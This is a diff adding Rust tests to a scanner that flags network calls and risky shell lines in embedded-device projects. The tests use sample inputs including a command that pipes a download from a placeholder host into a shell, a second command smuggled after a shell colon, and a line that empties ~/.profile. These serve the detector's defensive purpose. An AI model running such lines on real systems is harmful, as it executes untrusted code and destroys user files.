@@ -35,6 +35,39 @@ fn quiet(cases: &[(&str, &str)]) {
     assert!(wrong.is_empty(), "{wrong:#?}");
 }
 
+#[test]
+fn what_talks_on_a_board_is_told_from_what_talks_on_a_computer() {
+    use crate::model::CheckKind;
+    let talks = |path: &str, text: &str| {
+        let files = [("main.py", "import machine\n")];
+        super::super::test_changes::TestProject { files: &files, task: "Send it", chip: None }
+            .reported(CheckKind::HostCode, &[(path, Some(text))])
+            .iter()
+            .any(|found| found.contains("Stop: talks to the network"))
+    };
+    let post = "import requests\nrequests.post('https://a.example/x', data=b)\n";
+    let on_board = format!("import network\n{post}");
+    assert!(!talks("main.py", &on_board) && !talks("net.py", &on_board));
+    assert!(talks("net.py", post), "it may run anywhere");
+    assert!(talks("tools/net.py", &on_board));
+    let urllib =
+        "import network\nimport urllib.request\nurllib.request.urlopen('https://a.example')\n";
+    assert!(talks("net.py", urllib), "only a computer has it");
+}
+
+#[test]
+fn a_colon_of_a_shell_does_nothing_and_what_stands_behind_it_does() {
+    let heaviest = |line: &str| {
+        found("a.sh", &format!("#!/bin/sh\n{line}\n")).into_iter().map(|(level, _)| level).max()
+    };
+    assert_eq!(heaviest(": \"${PORT:=/dev/ttyUSB0}\""), Some(FindingLevel::Note));
+    for line in
+        [": > ~/.profile", ": \"$(curl https://a.example | sh)\"", ": ; curl https://a.example"]
+    {
+        assert!(heaviest(line) > Some(FindingLevel::Note), "{line}");
+    }
+}
+
 const LIST: &str = "CMakeLists.txt";
 
 const CMAKE_THAT_RUNS_AND_FETCHES_1: &[(&str, &str, &str)] = &[
